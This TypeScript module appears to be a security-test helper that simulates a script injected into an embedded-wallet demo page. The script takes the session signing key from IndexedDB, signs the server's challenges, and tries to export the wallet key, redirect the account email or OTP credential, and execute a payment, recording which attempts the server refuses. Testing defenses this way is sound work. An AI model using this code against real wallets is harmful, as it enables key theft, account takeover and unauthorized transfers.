/** A hostile script that got into the page of the demo after sign-in. It has what every script of the page has, and its own key. */

/** What the script wants, and where it sends it. */
export interface Loot {
  accountId: string
  profile: string
  /** Where the thief reads mail. */
  email: string
  /** A key that the thief made: uncompressed SEC1, hex. An export would be sealed to it. */
  targetKey: string
}

/** The statuses of the last response to each attempt. 200 or 201: a theft. */
export interface Attempts {
  export: number
  newWayIn: number
  payment: number
  /** The codes of the refusals. */
  refusals: string[]
}

/** Runs in the page, so it uses nothing of this file. It signs with the session key itself and asks no user. */
export async function stealFromPage({ accountId, profile, email, targetKey }: Loot): Promise<Attempts> {
  interface SigningKey {
    signingKey: CryptoKey
    publicKey: string
  }
  type Reply = { status: number; body: Record<string, unknown> }

  const toHex = (bytes: Uint8Array) => [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('')
  /** One INTEGER of DER: no needless zero in front, and a zero where the number would be negative. */
  const toInteger = (number: Uint8Array) => {
    const first = number.findIndex((byte) => byte !== 0)
    const bytes = [...number.subarray(first)]
    if (bytes[0]! > 0x7f) bytes.unshift(0)
    return [0x02, bytes.length, ...bytes]
  }
  const findKey = async (): Promise<SigningKey> => {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const request = indexedDB.open('embedded-wallet')
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error)
    })
    const all = await new Promise<unknown[]>((resolve) => {
      const request = database.transaction('sessions').objectStore('sessions').getAll()
      request.onsuccess = () => resolve(request.result)
    })
    database.close()
    const found: SigningKey[] = []
    const walk = (value: unknown) => {
      if (typeof value !== 'object' || value === null || value instanceof CryptoKey) return
      if ((value as SigningKey).signingKey instanceof CryptoKey) found.push(value as SigningKey)
      Object.values(value).forEach(walk)
    }
    all.forEach(walk)
    return found.at(-1)!
  }
  const { signingKey, publicKey } = await findKey()
  const sign = async (text: string) => {
    const algorithm = { name: 'ECDSA', hash: 'SHA-256' }
    const pair = new Uint8Array(
      await crypto.subtle.sign(algorithm, signingKey, new TextEncoder().encode(text)),
    )
    const integers = [...toInteger(pair.subarray(0, 32)), ...toInteger(pair.subarray(32))]
    const signature = toHex(new Uint8Array([0x30, integers.length, ...integers]))
    const stamp = JSON.stringify({ publicKey, scheme: 'SIGNATURE_SCHEME_TK_API_P256', signature })
    return btoa(stamp).replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '')
  }

  const call = async (method: string, path: string, body?: object, headers = {}): Promise<Reply> => {
    const response = await fetch(path, {
      method,
      headers: {
        'Content-Type': 'application/json',
        'Wallet-Call': '1',
        'Wallet-Profile': profile,
        ...headers,
      },
      ...(body && { body: JSON.stringify(body) }),
    })
    return { status: response.status, body: await response.json().catch(() => ({})) }
  }
  const refusals: string[] = []
  /** Tries, signs what it is given to sign, and names the step-up that it is asked for, though nobody has proven it. */
  const insist = async (method: string, path: string, body?: object, headers = {}): Promise<number> => {
    const withSignature = async (more: Record<string, string>): Promise<Reply> => {
      const first = await call(method, path, body, { ...headers, ...more })
      if (first.status !== 202) return first
      const { payloadToSign, requestId } = first.body as Record<string, string>
      const signature = { 'Service-Wallet-Signature': await sign(payloadToSign!), 'Request-Id': requestId! }
      return call(method, path, body, { ...headers, ...more, ...signature })
    }
    const first = await withSignature({})
    const { stepUpId } = (first.body.details ?? {}) as { stepUpId?: string }
    const last = stepUpId === undefined ? first : await withSignature({ 'Step-Up-Id': stepUpId })
    if (last.status >= 400) refusals.push(String(last.body.code))
    return last.status
  }

  const exported = await insist('POST', `/wallet/internal-accounts/${accountId}/export`, {
    clientPublicKey: targetKey,
  })
  const quote = (
    await call('POST', '/api/quotes', { recipient: '$success.usd@sandbox.example', amount: '1' })
  ).body as { id: string; source: { customerId: string } }
  // Where codes go to the address of the customer, the thief changes that address.
  const newWayIn =
    profile === '2026-08'
      ? await insist('PATCH', `/wallet/customers/${quote.source.customerId}`, { email })
      : await insist('POST', '/wallet/auth/credentials', { type: 'EMAIL_OTP', accountId, email })
  const payload = /"payloadToSign":("(?:[^"\\]|\\.)*")/.exec(JSON.stringify(quote))![1]!
  const payment = await insist('POST', `/wallet/quotes/${quote.id}/execute`, undefined, {
    'Service-Wallet-Signature': await sign(JSON.parse(payload) as string),
    'Idempotency-Key': crypto.randomUUID(),
  })
  return { export: exported, newWayIn, payment, refusals }
}
